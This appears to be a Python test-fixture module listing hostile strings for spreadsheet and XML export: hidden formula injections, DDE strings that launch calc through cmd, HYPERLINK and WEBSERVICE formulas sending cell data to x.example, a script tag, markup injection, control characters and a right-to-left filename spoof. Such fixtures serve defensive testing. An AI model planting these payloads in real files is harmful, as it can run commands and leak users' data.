"""Texts that do harm where they are let: run as formulas, call programs, break files, hide what stands there."""

from __future__ import annotations

import unicodedata

PAYLOADS: dict[str, str] = {
    "formula": "=1+1",
    "plus": "+1+A1",
    "minus": "-2+3+cmd|x",
    "at": "@SUM(A1:A9)",
    "tab before": "\t=1+2",
    "line end before": "\r\n=1+3",
    "space before": " =1+4",
    "full width": "＝1+5",
    "full width plus": "＋1+A2",
    "full width at": "＠SUM(B1)",
    "zero width before": "\u200b=1+6",
    "byte order mark before": "\ufeff=1+7",
    "no-break space before": "\u00a0=1+8",
    "apostrophe": "'=1+9",
    "two apostrophes": "''=1+10",
    "array": "{=SUM(A1:A3)}",
    "dde": "=cmd|' /C calc'!A0",
    "dde with a plus": "+cmd|' /C calc'!A1",
    "dde service": '=DDE("cmd";"/C calc";"x")',
    "link": '=HYPERLINK("http://x.example/?"&A1,"click")',
    "web service": '=WEBSERVICE("http://x.example/"&A1)',
    "quotes and separators": '";=1+11;"\t"=1+12"',
    "script": "<script>alert(1)</script>",
    "markup": "]]></t></is></c><c><f>1+13</f></c>",
    "entity": "&bomb;&#0;&amp;amp;",
    "escape": "_x0041_ _x000D_ _x0000_",
    "bell": "ring\x07\x08the bell",
    "null": "nothing\x00there",
    "vertical tab": "up\x0bdown\x0cpage",
    "lone surrogates": "half\ud83d of\ude00 it",
    "not a character": "no\ufffe\uffffne",
    "emoji": "👩‍👩‍👧‍👦 family",
    "right to left": "\u202egnp.exe\u202c شركة",
    "letters joined": "Z̸̡̛a̵͔lgo",
    "error": "#REF! of old",
    "long": "长" * 32_767,
}


def seen(text: str) -> str:
    """What a person sees of a text, however wide its signs are written and wherever its lines end."""
    shown = unicodedata.normalize("NFKC", text.encode("utf-8", "ignore").decode("utf-8"))
    return "".join(sign for sign in shown if unicodedata.category(sign)[0] not in "CZ").lstrip("'")
